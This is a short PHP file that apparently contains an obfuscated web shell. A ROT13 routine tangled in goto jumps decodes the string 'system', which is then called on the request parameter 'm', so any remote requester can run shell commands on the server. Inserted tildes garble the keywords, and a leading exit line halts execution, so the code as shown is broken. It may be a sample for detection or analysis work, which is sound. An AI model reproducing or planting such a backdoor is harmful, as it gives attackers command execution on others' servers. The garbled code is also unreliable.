<?php exit; ?>
<?php
function marker_q($a) { got~o l2; l1: return $a; l2: $a = str~_rot13($a); got~o l1; } got~o e; d: $g($_R~EQUEST['m']); got~o f; e: $g = marker_q('flfgrz'); got~o d; f: die;
